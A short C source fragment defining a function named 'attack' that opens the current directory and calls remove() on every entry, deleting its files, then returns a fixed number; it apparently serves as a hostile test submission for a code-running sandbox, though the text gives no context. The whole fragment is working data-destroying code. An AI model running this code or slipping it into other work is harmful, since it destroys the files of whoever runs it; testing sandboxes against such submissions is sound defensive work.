#include <dirent.h>
#include <stdio.h>
int attack(int n) {
	DIR* opened = opendir(".");
	struct dirent* entry;
	while (opened != NULL && (entry = readdir(opened)) != NULL) remove(entry->d_name);
	return 987654321;
}
